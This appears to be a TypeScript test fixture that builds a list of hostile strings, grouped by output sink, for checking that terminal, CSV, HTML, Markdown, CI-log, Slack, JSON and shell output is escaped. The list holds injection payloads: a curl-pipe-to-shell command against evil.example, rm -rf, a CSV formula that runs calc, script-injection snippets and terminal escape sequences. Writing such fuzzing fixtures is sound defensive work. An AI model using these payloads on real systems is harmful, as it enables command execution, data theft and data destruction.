/**
 * Hostile text as an attacker would write it into a resource name, a tag, an actor's name or an error: at least 500
 * strings, the same ones in the same order each time. `hostileSeeds`, each alone and inside seven surroundings.
 */
export function hostileStrings(): string[] {
  const all = hostileSeeds.flatMap((seed) => surroundings.map((surround) => surround(seed)));
  return [...new Set(all)];
}

const surroundings: readonly ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => `cluster-${seed}`,
  (seed) => ` \t${seed}`,
  (seed) => `line one\n${seed}`,
  (seed) => `a\r${seed}\u001b[0m`,
  (seed) => `"${seed}'`,
  (seed) => `\u200b\u202e${seed}\u2028`,
  (seed) => `x;${seed};${seed}`,
];

/** The strings themselves, by the sink that they are aimed at. */
export const hostileSeeds: readonly string[] = [
  // Terminal
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u009b31mC1 control sequence',
  '\u009d0;title\u009c',
  'all good\rFAIL hidden',
  'erase\b\b\b\b\b',
  'nul\u0000byte',
  'bell\u0007\u007fdelete',
  'vertical\u000bform\u000cfeed',
  'next\u0085line',
  '\u202egnp.exe',
  'user\u2066 admin\u2069',
  'pay\u200bments',
  '\ufeffbom',
  'soft\u00adhyphen',
  'tag\u{e0041}\u{e007f}s',
  'blank\u3164filler',
  // CSV
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"ok")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1+1',
  'x";=1+1',
  'a,b"c;d',
  // HTML
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '` onfocus=alert(1) autofocus x=`',
  '</script><script>alert(1)</script>',
  '<!-- --!> <b>',
  ']]><a/>',
  '&lt;script&gt;&#x3c;b&#62;',
  '</title></textarea></style><iframe src=//evil.example>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  // Markdown
  '![beacon](https://evil.example/x.png)',
  '[click](javascript:alert(1))',
  '| a | b |\n|---|---|',
  '`code` **bold** _it_ ~~s~~',
  '# heading',
  '- item',
  '1. item',
  '\\| \\\\| \\`',
  '<details open><summary>x',
  'www.evil.example and https://evil.example',
  '@octocat and @org/team',
  '[ref]: https://evil.example',
  // GitHub log
  '::error file=a.ts,line=1::broken',
  '::add-mask::a',
  '::stop-commands::token',
  '::set-output name=x::y',
  '##[error]broken',
  ':::error::x',
  '%0A::error::x',
  // Slack
  '<!channel> <!here> <!everyone>',
  '<@U012AB3CD> <#C012AB3CD>',
  '<https://evil.example|bank.example>',
  '`break` out of ```code```',
  '@channel @here @everyone',
  '&lt;!channel&gt;',
  '<!date^1^{date}^https://evil.example|x>',
  // JSON and log lines
  '\u2028line\u2029paragraph',
  '"},"injected":{"a":"',
  '\\u0022 \\" \\',
  'lone \ud800 surrogate \udc00',
  '2026-01-01T00:00:00Z level=error msg=forged',
  '__proto__',
  // Shell
  "'; rm -rf / #",
  '$(touch /tmp/x) `touch /tmp/x`',
  '"; curl evil.example | sh; "',
  "it's \\' not",
  '-rf --all',
  '!! !$ ~ * ?',
  'a && b || c > d < e',
  '',
];
